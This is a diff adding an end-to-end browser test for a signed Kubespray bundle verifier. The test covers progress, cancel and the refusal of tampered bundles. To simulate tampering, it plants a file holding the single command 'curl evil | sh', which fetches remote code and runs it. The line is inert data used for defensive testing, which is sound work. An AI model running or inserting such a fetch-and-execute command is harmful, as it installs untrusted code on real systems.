@@ -1,0 +1,121 @@
+import { createHash, randomBytes } from 'node:crypto';
+import { mkdir, mkdtemp, open, writeFile } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Browser, Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import type { BundleManifest } from '../../electron/common/bundle-manifest';
+import { generateSigningKey } from '../../electron/node/bundles/bundle-signing';
+import { addOperatorKey } from '../../electron/node/bundles/trusted-publishers';
+import { collectFileEntries, writeSignedManifest } from '../../electron/node/bundles/write-manifest';
+import { repoRoot, startServe, type ServeProcess } from '../support/airspray-serve';
+import { launchChromium } from '../support/chromium';
+
+const screenshotDir = join(repoRoot, 'test-results', 'screenshots');
+const gib = 1024 * 1024 * 1024;
+let serve: ServeProcess;
+let browser: Browser;
+let largeBundle: string;
+let tamperedBundle: string;
+
+async function writeBundle(dir: string, bundleId: string, key: ReturnType<typeof generateSigningKey>, known: Map<string, { sha256: string }> = new Map()): Promise<void> {
+  await mkdir(join(dir, 'kubespray'), { recursive: true });
+  await writeFile(join(dir, 'kubespray', 'cluster.yml'), '- import_playbook: playbooks/cluster.yml\n');
+  const manifest: BundleManifest = {
+    formatVersion: 1, bundleId, createdAt: '2026-11-25T09:30:00.000Z', kubespray: { version: '2.23.3' }, kubernetesVersions: ['1.27.10'],
+    architectures: ['amd64'], operatingSystems: [{ id: 'debian', version: '12' }], networkPlugins: ['calico'],
+    files: await collectFileEntries(dir, known), images: [],
+  };
+  await writeSignedManifest(dir, manifest, key.privateKeyPem);
+}
+
+beforeAll(async () => {
+  const root = await mkdtemp(join(tmpdir(), 'airspray-e2e-bundle-'));
+  const dataDir = join(root, 'data');
+  const bundles = join(root, 'bundles');
+  const key = generateSigningKey();
+  await addOperatorKey(dataDir, { name: 'E2E publisher', publicKey: key.publicKeyPem, confirmedFingerprint: key.fingerprint });
+
+  // Four 1 GiB images of zeros, sparse on disk, so the check runs long enough to watch (and cancel) it.
+  largeBundle = join(bundles, 'kubespray-2.23.3-large');
+  const blobs = join(largeBundle, 'images', 'docker', 'registry', 'v2', 'blobs');
+  await mkdir(blobs, { recursive: true });
+  const zerosSha = createHash('sha256');
+  const mib = Buffer.alloc(1024 * 1024);
+  for (let index = 0; index < 1024; index += 1) zerosSha.update(mib);
+  const sha256 = zerosSha.digest('hex');
+  const known = new Map<string, { sha256: string }>();
+  for (let index = 0; index < 4; index += 1) {
+    const file = await open(join(blobs, `layer-${index}`), 'w');
+    await file.truncate(gib);
+    await file.close();
+    known.set(`images/docker/registry/v2/blobs/layer-${index}`, { sha256 });
+  }
+  await writeBundle(largeBundle, 'ks-2.23.3-large', key, known);
+
+  tamperedBundle = join(bundles, 'kubespray-2.23.3-tampered');
+  await mkdir(join(tamperedBundle, 'files', 'dl.k8s.io'), { recursive: true });
+  await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
+  await writeBundle(tamperedBundle, 'ks-2.23.3-tampered', key);
+  await writeFile(join(tamperedBundle, 'files', 'dl.k8s.io', 'kubeadm'), randomBytes(4096));
+  await writeFile(join(tamperedBundle, 'files', 'planted.sh'), 'curl evil | sh\n');
+
+  await mkdir(screenshotDir, { recursive: true });
+  serve = await startServe(['--data-dir', dataDir, '--bundles-dir', bundles]);
+  browser = await launchChromium();
+}, 120_000);
+
+afterAll(async () => {
+  await browser?.close();
+  await serve?.stop();
+});
+
+async function openBundleStep(): Promise<Page> {
+  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
+  const page = await context.newPage();
+  await page.goto(serve.url);
+  await expect.poll(() => page.getByRole('list', { name: 'Bundles found' }).textContent()).toContain('ks-2.23.3-tampered');
+  return page;
+}
+
+describe('Bundle step verification in Debian Chromium against the real server', () => {
+  it('shows progress with bytes, rate and time left, cancels, then verifies in full', async () => {
+    const page = await openBundleStep();
+    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-large' });
+    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
+    const bar = panel.getByRole('progressbar', { name: 'Verifying kubespray-2.23.3-large' });
+    await expect.poll(() => panel.getByRole('status').textContent(), { timeout: 10_000 }).toMatch(/GB of 4\.29 GB · .+\/s · /);
+    expect(Number(await bar.getAttribute('value'))).toBeGreaterThan(0);
+    await panel.evaluate((element) => element.scrollIntoView({ block: 'center' }));
+    await page.screenshot({ path: join(screenshotDir, 'bundle-verify-progress.png') });
+
+    await panel.getByRole('button', { name: 'Cancel' }).click();
+    await expect.poll(() => bar.count()).toBe(0);
+    expect(await panel.textContent()).not.toContain('Verified');
+
+    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
+    await expect.poll(() => panel.textContent(), { timeout: 30_000 }).toContain('Verified: every file matches the signed manifest');
+    expect(await panel.textContent()).toContain('E2E publisher');
+    expect(await page.getByRole('listitem').filter({ hasText: 'ks-2.23.3-large' }).textContent()).toContain('Verified');
+    await panel.scrollIntoViewIfNeeded();
+    await page.screenshot({ path: join(screenshotDir, 'bundle-verified.png') });
+    await page.context().close();
+  });
+
+  it('refuses a tampered bundle naming each file, and remembers results across a reload', async () => {
+    const page = await openBundleStep();
+    const panel = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-tampered' });
+    await panel.getByRole('button', { name: 'Verify', exact: true }).click();
+    const refusals = panel.getByRole('list', { name: 'Refusals' });
+    await expect.poll(() => refusals.textContent()).toContain('files/dl.k8s.io/kubeadm');
+    expect(await refusals.textContent()).toContain('Not in the manifest');
+    expect(await refusals.textContent()).toContain('files/planted.sh');
+    await panel.scrollIntoViewIfNeeded();
+    await page.screenshot({ path: join(screenshotDir, 'bundle-refused.png') });
+
+    await page.reload();
+    const again = page.getByRole('region', { name: 'Verification of kubespray-2.23.3-large' });
+    await expect.poll(() => again.textContent()).toContain('remembered: nothing changed since');
+    await page.context().close();
+  });
+});
